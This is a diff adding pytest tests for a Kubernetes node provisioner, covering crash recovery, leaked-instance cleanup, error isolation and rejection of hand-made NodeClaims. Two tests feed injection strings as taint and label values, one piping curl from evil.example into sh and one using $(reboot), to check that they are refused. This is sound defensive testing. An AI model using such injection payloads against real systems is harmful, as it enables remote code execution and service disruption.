@@ -318,6 +318,9 @@ class Logger:
     def warning(self, msg: str, **_: Any) -> None:
         self.records.append(("warning", msg))
 
+    def exception(self, msg: str, **_: Any) -> None:
+        self.records.append(("exception", msg))
+
 
 def pending_pod(name: str) -> dict[str, Any]:
     return {
@@ -421,6 +424,10 @@ def test_the_cluster_cost_counts_every_launched_nodeclaim_from_the_price_table(w
     assert ("ClusterCostPerHour", pytest.approx(0.096)) in ctx.metrics.values
 
 
+class FunctionDied(BaseException):
+    """The Lambda function stops (timeout, out of memory, kill): no ``except Exception`` sees it."""
+
+
 def crash_around_create(cloud: FakeCloud, *, before: bool) -> None:
     """The function dies once, just before CreateFleet or just after it returned (before the status write)."""
     real = cloud.create
@@ -429,7 +436,7 @@ def crash_around_create(cloud: FakeCloud, *, before: bool) -> None:
         cloud.create = real  # type: ignore[method-assign]
         if not before:
             real(request)
-        raise RuntimeError("injected crash")
+        raise FunctionDied("injected crash")
 
     cloud.create = dying  # type: ignore[method-assign]
 
@@ -440,7 +447,7 @@ def test_crash_between_create_and_launch_is_finished_by_the_next_pass_with_one_i
 
     crash_around_create(cloud, before=True)
 
-    with pytest.raises(RuntimeError, match="injected crash"):
+    with pytest.raises(FunctionDied, match="injected crash"):
         flow.provision(ctx)
     assert len(cluster.objects["NodeClaim"]) == 1
     assert not cloud.instances
@@ -462,7 +469,7 @@ def test_crash_between_launch_and_status_write_adopts_the_instance_instead_of_la
 
     crash_around_create(cloud, before=False)
 
-    with pytest.raises(RuntimeError, match="injected crash"):
+    with pytest.raises(FunctionDied, match="injected crash"):
         flow.provision(ctx)
     assert len(cloud.instances) == 1
 
@@ -560,6 +567,37 @@ def test_leaked_instances_are_terminated_after_the_grace_period_only(world: Any)
 
     assert report.lifecycle.leaked_terminated == ["i-old"]
     assert set(cloud.instances) == {"i-young"}
+
+
+def test_a_second_instance_tagged_with_a_live_nodeclaim_is_a_leak_once_registration_would_have_failed(
+    world: Any,
+) -> None:
+    ctx, cluster, cloud = world
+    cluster.add("Pod", pending_pod("inflate-1"))
+    name = flow.provision(ctx).created[0]
+    claim = cluster.objects["NodeClaim"][name]
+    recorded = claim["status"]["instanceID"]
+    cluster.add(
+        "Node",
+        {
+            "metadata": {"name": "ip-10-0-0-1", "labels": {}},
+            "spec": {"providerID": claim["status"]["providerID"]},
+            "status": {"conditions": [{"type": "Ready", "status": "True"}]},
+        },
+    )
+    twin = Instance("i-twin", "m5.large", "us-west-2a", "on-demand", name, ctx.clock.now())
+    cloud.instances["i-twin"] = twin
+
+    lifecycle.reset_gc_clock()
+    assert flow.provision(ctx).lifecycle.leaked_terminated == []  # young: it might still be adopted
+
+    ctx.clock.advance(lifecycle.REGISTRATION_TTL.total_seconds() + 60)
+    lifecycle.reset_gc_clock()
+    report = flow.provision(ctx)
+
+    assert report.lifecycle.leaked_terminated == ["i-twin"]
+    assert name in cluster.objects["NodeClaim"]
+    assert recorded in cloud.instances
 
 
 def test_deleting_a_nodepool_deletes_its_nodeclaims_which_terminate_their_instances(world: Any) -> None:
@@ -827,3 +865,122 @@ def test_nothing_is_launched_when_the_displaced_node_runs_only_daemonset_pods(wo
 
     assert report.created == []
     assert cloud.instances == {}
+
+
+def hand_made_nodeclaim(name: str, **spec: Any) -> dict[str, Any]:
+    """A NodeClaim written with kubectl, not by a pass: no NodePool made it."""
+    return {
+        "apiVersion": "karpenter.sh/v1",
+        "kind": "NodeClaim",
+        "metadata": {"name": name, "labels": {}},
+        "spec": {
+            "nodeClassRef": {"group": "karpenter.k8s.aws", "kind": "EC2NodeClass", "name": "default"},
+            "requirements": [
+                {"key": labels.INSTANCE_TYPE, "operator": "In", "values": ["m5.large"]},
+            ],
+            **spec,
+        },
+    }
+
+
+def test_a_hand_made_nodeclaim_with_a_hostile_taint_is_refused_and_never_launched(world: Any) -> None:
+    ctx, cluster, cloud = world
+    hostile = [{"key": "x", "value": "a';curl evil.example|sh;'", "effect": "NoSchedule"}]
+    cluster.add("NodeClaim", hand_made_nodeclaim("by-hand", taints=hostile))
+    cluster.add("NodeClaim", hand_made_nodeclaim("honest"))
+
+    report = flow.provision(ctx)
+
+    assert [r.nodeclaim_name for r in cloud.requests] == ["honest"]
+    assert [(f.nodeclaim, f.code) for f in report.failures] == [("by-hand", "InvalidNodeClaim")]
+    refused = cluster.objects["NodeClaim"]["by-hand"]
+    condition = nodeclaims.condition(refused, "Launched")
+    assert condition is not None
+    assert (condition["status"], condition["reason"]) == ("False", "InvalidNodeClaim")
+    assert "spec.taints[0].value" in condition["message"]
+    assert [e for e in cluster.events if e[1] == "by-hand" and e[2] == "InvalidNodeClaim"]
+
+    again = flow.provision(ctx)  # refused once: no second event, no second failure counted
+
+    assert again.failures == []
+    assert len([e for e in cluster.events if e[1] == "by-hand"]) == 1
+    assert [r.nodeclaim_name for r in cloud.requests] == ["honest"]
+
+
+def test_a_hand_made_nodeclaim_with_a_hostile_label_is_refused(world: Any) -> None:
+    ctx, cluster, cloud = world
+    claim = hand_made_nodeclaim("by-hand")
+    claim["metadata"]["labels"] = {"example.com/team": "$(reboot)"}
+    cluster.add("NodeClaim", claim)
+
+    report = flow.provision(ctx)
+
+    assert cloud.requests == []
+    assert [f.code for f in report.failures] == ["InvalidNodeClaim"]
+
+
+def test_an_unexpected_error_launching_one_nodeclaim_fails_that_nodeclaim_alone(
+    world: Any, capsys: pytest.CaptureFixture[str]
+) -> None:
+    ctx, cluster, cloud = world
+    cluster.add("NodeClaim", hand_made_nodeclaim("first"))
+    cluster.add("NodeClaim", hand_made_nodeclaim("second"))
+    real = cloud.create
+
+    def broken_for_first(request: Any) -> LaunchResult:
+        if request.nodeclaim_name == "first":
+            raise UnicodeEncodeError("us-ascii", "\u2014", 0, 1, "ordinal not in range(128)")
+        return real(request)
+
+    cloud.create = broken_for_first  # type: ignore[method-assign]
+
+    report = flow.provision(ctx)
+
+    assert [x.nodeclaim for x in report.launched] == ["second"]
+    assert [(f.nodeclaim, f.code) for f in report.failures] == [("first", "UnicodeEncodeError")]
+    first = cluster.objects["NodeClaim"]["first"]
+    condition = nodeclaims.condition(first, "Launched")
+    assert condition is not None
+    assert (condition["status"], condition["reason"]) == ("False", "LaunchFailed")
+    assert [e for e in cluster.events if e[1] == "first" and e[2] == "LaunchFailed"]
+    assert '"ErrorCode":"UnicodeEncodeError","LaunchErrors":[1.0]' in capsys.readouterr().out
+
+    cloud.create = real  # type: ignore[method-assign]
+    retried = flow.provision(ctx)
+
+    assert [x.nodeclaim for x in retried.launched] == ["first"]
+    assert nodeclaims.is_true(cluster.objects["NodeClaim"]["first"], "Launched")
+
+
+def test_a_nodeclaim_never_launched_is_deleted_after_the_registration_timeout(world: Any) -> None:
+    ctx, cluster, cloud = world
+    cluster.add(
+        "NodeClaim",
+        hand_made_nodeclaim("stuck", taints=[{"key": "x", "value": "a b", "effect": "NoSchedule"}]),
+    )
+    flow.provision(ctx)
+    assert "stuck" in cluster.objects["NodeClaim"]
+
+    ctx.clock.advance(lifecycle.REGISTRATION_TTL.total_seconds() + 1)
+    report = flow.provision(ctx)
+
+    assert report.lifecycle.timed_out == ["stuck"]
+    assert "stuck" not in cluster.objects["NodeClaim"]
+    assert cloud.requests == []
+
+
+def test_a_converted_v1beta1_nodepools_kubelet_reaches_the_launch(world: Any) -> None:
+    from nodewright.api.conversion_review import KUBELET_ANNOTATION
+
+    ctx, cluster, cloud = world
+    pool = cluster.objects["NodePool"]["default"]
+    pool["metadata"]["annotations"] = {
+        KUBELET_ANNOTATION: '{"containerRuntime": "containerd", "maxPods": 20}'
+    }
+    cluster.add("Pod", pending_pod("inflate-1"))
+
+    flow.provision(ctx)
+
+    assert cloud.requests[0].kubelet == {"maxPods": 20}  # in v1's form: the runtime setting is gone
+    claim = next(iter(cluster.objects["NodeClaim"].values()))
+    assert claim["metadata"]["annotations"][KUBELET_ANNOTATION]
